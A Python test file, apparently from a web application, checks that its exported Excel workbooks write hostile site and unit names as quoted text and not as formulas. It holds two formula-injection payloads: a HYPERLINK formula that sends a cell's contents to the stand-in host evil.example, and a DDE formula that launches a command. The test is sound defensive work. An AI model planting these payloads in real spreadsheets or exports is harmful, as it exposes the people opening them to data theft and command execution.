"""The command centre's workbooks write a hostile site or unit name as text, not a formula."""

from __future__ import annotations

from datetime import timedelta
from io import BytesIO
from typing import Any

import time_machine
from openpyxl import load_workbook

from tests.command.conftest import make_check
from tests.command.test_reports import DAY, NOON
from tests.conftest import login

SITE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
UNIT_NAME = "=cmd|' /C calc'!A0"


def cells_with(book: Any, text: str) -> list[Any]:
    return [c for s in book.worksheets for row in s.iter_rows() for c in row if c.value == text]


def hostile_names(sites: Any, tree: Any) -> None:
    site = sites["linze"][0]
    site.name = SITE_NAME
    site.save(update_fields=["name"])
    tree.linze.name = UNIT_NAME
    tree.linze.save(update_fields=["name"])
    for minute in range(2):
        make_check(site, at=NOON + timedelta(minutes=minute))


def assert_text(book: Any, text: str) -> None:
    found = cells_with(book, text)
    assert found, f"{text!r} is not in the workbook"
    assert all(c.data_type == "s" and isinstance(c.value, str) for c in found)
    assert all(c.quotePrefix for c in found)  # Still text when someone edits the cell.


def test_the_units_workbook(sites: Any, tree: Any, commander: Any) -> None:
    hostile_names(sites, tree)
    with time_machine.travel(NOON, tick=False):
        response = login(commander).post("/command/units.xlsx", {"reason": "测试导出"})
    book = load_workbook(BytesIO(response.content))
    assert_text(book, SITE_NAME)
    assert_text(book, UNIT_NAME)


def test_the_report_workbook(sites: Any, tree: Any, commander: Any) -> None:
    hostile_names(sites, tree)
    with time_machine.travel(NOON + timedelta(hours=20), tick=False):
        url = f"/command/reports/{tree.detachment.pk}/{DAY}/report.xlsx"
        response = login(commander).post(url, {"reason": "测试导出"})
    assert response.status_code == 200
    assert_text(load_workbook(BytesIO(response.content)), UNIT_NAME)
